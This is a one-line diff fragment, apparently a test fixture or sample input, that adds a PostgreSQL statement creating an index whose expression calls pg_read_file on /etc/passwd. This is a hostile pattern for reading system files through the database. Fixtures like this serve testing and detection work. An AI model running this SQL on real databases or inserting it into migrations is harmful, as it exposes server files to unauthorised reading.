@@ -1,0 +1,1 @@
+CREATE INDEX ON messages (pg_read_file('/etc/passwd'));
